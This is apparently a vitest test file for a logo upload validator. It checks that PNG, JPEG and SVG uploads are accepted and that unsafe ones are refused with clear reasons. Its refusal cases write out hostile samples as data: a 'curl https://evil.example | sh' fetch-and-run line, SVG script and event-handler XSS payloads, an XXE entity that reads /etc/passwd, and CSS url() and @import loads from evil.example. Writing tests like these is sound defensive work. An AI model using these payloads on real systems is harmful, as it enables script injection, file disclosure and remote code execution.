import { describe, expect, it } from 'vitest';
import { AppError } from '../errors/catalogue.js';
import { checkLogo } from './logo-check.js';
import { testLogo } from './test-helpers.js';

const svg = (body: string, attrs = '') => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" ${attrs}>${body}</svg>`);

/** The reason checkLogo gives for refusing `bytes` (the test fails if it accepts them). */
function refusal(bytes: Buffer): { status: number; message: string; rule?: unknown; params?: unknown } {
  try {
    checkLogo(bytes);
  } catch (err) {
    if (!(err instanceof AppError)) throw err;
    const field = err.extra.fields?.[0];
    return { status: err.status, message: err.message, ...(field ? { rule: field.rule, params: field.params } : {}) };
  }
  throw new Error('the logo was accepted');
}

/** A PNG whose header claims `width` × `height` pixels. */
function pngHeader(width: number, height: number) {
  const ihdr = Buffer.alloc(25);
  ihdr.writeUInt32BE(13, 0);
  ihdr.write('IHDR', 4, 'latin1');
  ihdr.writeUInt32BE(width, 8);
  ihdr.writeUInt32BE(height, 12);
  ihdr.set([8, 6, 0, 0, 0], 16);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), ihdr]);
}

describe('accepted logos, judged by their bytes', () => {
  it('a PNG, a JPEG and an SVG made in an editor (metadata, style sheet, gradient, internal references)', () => {
    expect(checkLogo(testLogo('logo.png'))).toBe('image/png');
    expect(checkLogo(testLogo('logo.jpg'))).toBe('image/jpeg');
    expect(checkLogo(testLogo('logo.svg'))).toBe('image/svg+xml');
  });

  it('an SVG with a byte-order mark, a fragment link and an embedded PNG', () => {
    const png = testLogo('logo.png').toString('base64');
    const bytes = svg(`<a href="#top"><image href="data:image/png;base64,${png}" width="10" height="10"/></a>`, 'id="top"');
    expect(checkLogo(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), bytes]))).toBe('image/svg+xml');
  });
});

describe('refused logos: a clear reason, nothing stripped', () => {
  it.each([
    ['a shell script renamed .png', Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), /not a PNG, JPEG or SVG image/],
    ['an HTML page with a script', Buffer.from('<html><body><script>alert(1)</script></body></html>'), /not a PNG, JPEG or SVG image/],
    ['an SVG without the SVG namespace', Buffer.from('<svg><rect width="1" height="1"/></svg>'), /not a PNG, JPEG or SVG image/],
    ['binary garbage', Buffer.from([0x00, 0xff, 0x13, 0x37, 0xfe]), /not a PNG, JPEG or SVG image/],
    ['an empty file', Buffer.alloc(0), /empty/],
    ['a PNG signature with no header', pngHeader(1, 1).subarray(0, 8), /PNG image but its header cannot be read/],
    ['a JPEG signature followed by text', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from('not a jpeg')]), /JPEG image/],
    ['a PNG that decodes into 20000 × 20000 pixels', pngHeader(20_000, 20_000), /20000 × 20000 pixels/],
    ['an SVG with <script>', svg('<script>alert(document.cookie)</script>'), /<script> element/],
    [
      'an SVG with a script in the XHTML namespace',
      svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
      /outside SVG/,
    ],
    [
      'an SVG with an onload handler',
      svg('<rect width="1" height="1"/>', 'onload="alert(1)"'),
      /event handler attribute \(onload on <svg>\)/,
    ],
    ['an SVG with an ONCLICK handler', svg('<rect ONCLICK="alert(1)" width="1" height="1"/>'), /event handler attribute/],
    [
      'an SVG with a foreignObject',
      svg('<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>'),
      /<foreignObject>/,
    ],
    ['an SVG with an external image href', svg('<image href="https://evil.example/track.png" width="1" height="1"/>'), /outside the file/],
    ['an SVG using a file on the server', svg('<image href="file:///etc/passwd" width="1" height="1"/>'), /outside the file/],
    [
      'an SVG with an external xlink:href',
      svg('<use xlink:href="https://evil.example/sprite.svg#icon"/>', 'xmlns:xlink="http://www.w3.org/1999/xlink"'),
      /outside the file \(xlink:href=/,
    ],
    ['an SVG with a javascript: link', svg('<a href="javascript:alert(1)"><rect width="1" height="1"/></a>'), /outside the file/],
    [
      'an SVG embedding another SVG as data',
      svg('<image href="data:image/svg+xml;base64,PHN2Zy8+" width="1" height="1"/>'),
      /outside the file/,
    ],
    [
      'an SVG with an entity declaration',
      Buffer.from('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>'),
      /DOCTYPE/,
    ],
    [
      'an SVG with a style sheet link',
      Buffer.from('<?xml-stylesheet href="https://evil.example/x.css"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
      /processing instruction/,
    ],
    ['an SVG whose style imports a sheet', svg('<style>@import url(https://evil.example/x.css);</style>'), /@import/],
    [
      'an SVG whose style loads a font from elsewhere',
      svg('<style>@font-face { font-family: x; src: url(https://evil.example/f.woff) }</style>'),
      /url\(https:\/\/evil/,
    ],
    [
      'an SVG whose style attribute loads an image',
      svg('<rect style="fill: url(https://evil.example/p.svg#p)" width="1" height="1"/>'),
      /style attribute of <rect>/,
    ],
    [
      'an SVG with an escaped url in a fill',
      svg('<rect fill="\\75 rl(https://evil.example/p.svg#p)" width="1" height="1"/>'),
      /fill attribute of <rect>/,
    ],
    [
      'an SVG hiding a url in a custom property',
      svg('<style>rect { --p: url(https://evil.example/p); fill: var(--p) }</style>'),
      /outside the file/,
    ],
    [
      'an SVG with image-set in its style',
      svg('<style>rect { fill: image-set("https://evil.example/a.png" 1x) }</style>'),
      /image-set\(\)/,
    ],
    [
      'an SVG that animates a link into javascript',
      svg('<a href="#x"><set attributeName="href" to="javascript:alert(1)"/></a>'),
      /<set> element/,
    ],
    ['an SVG that is not well-formed', svg('<rect width="1" height="1">'), /not well-formed XML/],
  ])('%s', (_name, bytes, reason) => {
    const { status, message } = refusal(bytes);
    expect(status).toBe(400);
    expect(message).toMatch(/^The logo was refused: /);
    expect(message).toMatch(reason);
  });

  it('a file over 1 MB is too large (413), even a valid SVG', () => {
    const padding = `<desc>${'x'.repeat(1024 * 1024)}</desc>`;
    expect(refusal(svg(padding))).toEqual({ status: 413, message: expect.stringMatching(/larger than 1 MB/) });
  });

  // Each refusal names a rule, so the web says why in the user's language rather than in English.
  it.each([
    ['not an image', Buffer.from('#!/bin/sh\n'), 'notAnImage', undefined],
    ['empty', Buffer.alloc(0), 'fileEmpty', undefined],
    ['an unreadable PNG header', pngHeader(1, 1).subarray(0, 8), 'imageHeader', { format: 'PNG' }],
    ['too many pixels', pngHeader(20_000, 20), 'imagePixels', { width: 20_000, height: 20, max: 4000 }],
    ['an SVG with a script', svg('<script>alert(1)</script>'), 'svgUnsafe', undefined],
  ])('a logo refused as %s names the rule %s', (_name, bytes, rule, params) => {
    expect(refusal(bytes)).toMatchObject({ status: 400, rule, params });
  });
});
